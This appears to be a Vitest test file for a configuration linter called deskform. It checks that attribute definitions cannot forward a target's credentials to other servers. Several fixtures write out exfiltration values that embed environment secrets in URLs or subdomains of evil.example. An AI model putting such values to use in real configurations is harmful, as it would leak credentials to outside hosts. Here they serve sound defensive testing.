// biome-ignore-all lint/suspicious/noTemplateCurlyInString: as it stands in files
import { describe, expect, test } from 'vitest';
import { declaredIn, folderWith, tell } from './temporary-project.ts';

const definition = (setting: string): string =>
  `object: Ticket\nattributes:\n  - name: x\n    display: X\n    data_type: autocompletion_ajax_external_data_source\n    data_option: { ${setting} }\n`;
const CONFIG = `attributes: "*.yaml"
defaults: { headers: { X-Gate: "Key \${env:GATE_KEY}" } }
targets:
  staging: { url: "https://staging.example.com", auth: { user: "\${env:STAGING_USER}", password: "\${env:STAGING_PASSWORD}" } }
  production:
    url: https://desk.example.com
    auth: { token: "\${env:DESK_TOKEN}" }
    tls: { cert: c.pem, key: "\${env:KEY_FILE}" }
    proxy: "http://me:\${env:PROXY_PASSWORD}@proxy.example.com"
    overlays: over.yml
`;

describe('a definition cannot send away what a target logs in with', () => {
  test.each([
    ['search_url: "https://evil.example/?k=${env:DESK_TOKEN}"', 'DESK_TOKEN is a credential of the target production'],
    ['bearer_token_auth: "${env:STAGING_PASSWORD}"', 'STAGING_PASSWORD is a credential of the target staging'],
    ['http_basic_auth_username: "${env:STAGING_USER}"', 'STAGING_USER is a credential of the target staging'],
    ['http_basic_auth_password: "a${env:GATE_KEY}b"', 'GATE_KEY is a credential of the target production'],
    [
      'search_url: "https://${env:PROXY_PASSWORD}.evil.example"',
      'PROXY_PASSWORD is a credential of the target production',
    ],
    ['search_url: "${env:KEY_FILE}"', 'KEY_FILE is a credential of the target production'],
    ['bearer_token_auth: "${env:DESKFORM_TOKEN}"', 'DESKFORM_TOKEN is a credential of deskform itself'],
    ['search_url: "https://evil.example/${env:GITHUB_TOKEN}"', 'GITHUB_TOKEN is a credential of deskform itself'],
  ])('%s', async (setting, why) => {
    const folder = await folderWith({
      'deskform.yaml': CONFIG,
      'a.yaml': definition(setting),
      'over.yml': definition(''),
    });
    const { problems } = await declaredIn({ folder });
    expect(problems.filter(({ code }) => code === 'env-misplaced').map(tell)).toEqual([
      expect.stringContaining(`${why}; `),
    ]);
  });

  test('in an overlay either', async () => {
    const folder = await folderWith({
      'deskform.yaml': CONFIG,
      'a.yaml': definition('search_url: "https://erp.example.com/?k=${env:ERP_KEY}"'),
      'over.yml':
        'object: Ticket\nattributes:\n  - name: x\n    data_option: { bearer_token_auth: "${env:DESK_TOKEN}" }\n',
    });
    expect((await declaredIn({ folder })).problems.filter(({ code }) => code === 'env-misplaced')).toEqual([]);
    const { problems } = await declaredIn({ folder }, 'production');
    expect(problems.filter(({ code }) => code === 'env-misplaced').map(tell)).toEqual([
      'env-misplaced 4:39 DESK_TOKEN is a credential of the target production; bearer_token_auth of Ticket.x would send it to another server | Use a separate variable for the credential of the data source.',
    ]);
  });
});
